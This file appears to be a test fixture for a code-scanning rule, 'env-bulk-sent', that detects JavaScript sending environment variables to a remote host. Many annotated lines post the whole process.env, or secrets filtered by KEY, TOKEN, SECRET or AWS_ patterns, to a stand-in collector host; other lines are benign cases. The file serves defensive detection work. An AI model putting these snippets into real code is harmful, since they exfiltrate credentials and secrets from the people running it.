import https from 'node:https';
import axios from 'axios';
import { env } from 'node:process';

const URL = 'https://collector.example.com/';

export async function direct() {
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(process.env) });
  // ruleid: env-bulk-sent
  await axios.post(URL, process.env);
  // ruleid: env-bulk-sent
  await axios.post(URL, { host: 'x', env: process.env });
  // ruleid: env-bulk-sent
  navigator.sendBeacon(URL, new URLSearchParams(process.env));
}

export function later() {
  const data = Buffer.from(JSON.stringify({ ...process.env })).toString('base64');
  const request = https.request({ host: 'example.com', method: 'POST' }, () => {});
  // ruleid: env-bulk-sent
  request.write(data);
  // ruleid: env-bulk-sent
  https.get(`${URL}?d=${data}`);
}

export async function filtered() {
  const secrets = Object.entries(process.env).filter(([name]) => /KEY|TOKEN/.test(name));
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(Object.fromEntries(secrets)) });
  const found = {};
  for (const [name, value] of Object.entries(process.env)) {
    if (/SECRET/i.test(name)) found[name] = value;
  }
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(found) });
  const list = [];
  for (const name in process.env) {
    list.push(process.env[name]);
  }
  // ruleid: env-bulk-sent
  await (0, axios_1.default)({ url: URL, data: list });
  const all = process.env;
  // ruleid: env-bulk-sent
  new WebSocket(URL).send(JSON.stringify(all));
}

async function report(data) {
  await fetch(URL, { method: 'POST', body: data });
}

export async function helper() {
  // ruleid: env-bulk-sent
  await report(JSON.stringify(process.env));
}

export async function given() {
  const worker = await newHTTPWorker(file, { spawnOptions: { cwd: '.' }, data: { ...process.env } });
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify({ spawnOptions: { env: { ...process.env } } }) });
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(worker) });
}

export async function honest() {
  const settings = { ...process.env, ...defaults };
  // ok: env-bulk-sent
  await fetch(settings.API_URL, { headers: { Authorization: `Bearer ${settings.API_TOKEN}` } });
  // ok: env-bulk-sent
  await fetch(`${process.env.API_URL}/x`, { body: JSON.stringify({ key: process.env.KEY }) });
  // ok: env-bulk-sent
  const child = spawn('curl', [URL], { env: { ...process.env } });
  const worker = await newHTTPWorker(file, { spawnOptions: { env: { ...process.env, ...defaults } } });
  // ok: env-bulk-sent
  worker.request('http://localhost', { method: 'POST' }, () => {});
  // ok: env-bulk-sent
  console.log(JSON.stringify(process.env));
  const count = Object.keys(process.env).length;
  // ok: env-bulk-sent
  await fetch(URL, { body: String(count) });
  // fetch(URL, { body: JSON.stringify(process.env) })
  // ok: env-bulk-sent
  return 'fetch(URL, { body: JSON.stringify(process.env) })';
}

const own = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("NOTES_")));
// ok: env-bulk-sent
fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(own) });
const theirs = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("AWS_")));
// ruleid: env-bulk-sent
fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(theirs) });
const names = Object.keys(process.env).filter((name) => name.startsWith("NOTES_"));
// ok: env-bulk-sent
fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(names) });

import { createServer } from 'node:http';
import { Hono } from 'hono';
import { createApi } from 'api-client';
import { createApp } from './app.js';

const served_1 = require('./served.js');

export function answers() {
  const app = createApp({ settings: process.env });
  createServer((req, res) => {
    // ok: env-bulk-sent
    toRequest(req).then((request) => app.fetch(request)).then((found) => write(found, res));
  });
  // ok: env-bulk-sent
  Deno.serve({ port: 1 }, (request) => app.fetch(request));
  const made = (0, served_1.createApp)({ ...process.env });
  // ok: env-bulk-sent
  http_1.createServer(async function (req) { await made.fetch(await toRequest(req)); });
  const routes = new Hono({ settings: process.env });
  // ok: env-bulk-sent
  routes.fetch(new Request('http://localhost/health'));
}

export function asks() {
  const app = createApp({ settings: process.env });
  // ruleid: env-bulk-sent
  app.fetch('https://collector.example.com/');
  createServer((req) => {
    // ruleid: env-bulk-sent
    app.fetch(req, { settings: { ...process.env } });
    // ruleid: env-bulk-sent
    app.fetch(req, app);
    // ruleid: env-bulk-sent
    app.post(req);
    app.fetch(req);
    // ruleid: env-bulk-sent
    fetch(URL, { body: JSON.stringify(app) });
  });
  const api = createApi({ body: JSON.stringify(process.env) });
  // ruleid: env-bulk-sent
  Deno.serve((request) => api.fetch(request));
  let either = createApp({ settings: process.env });
  // ruleid: env-bulk-sent
  Deno.serve((request) => either.fetch(request));
  const own = { settings: { ...process.env }, fetch() { return send(this.settings); } };
  // ruleid: env-bulk-sent
  Deno.serve((request) => own.fetch(request));
}
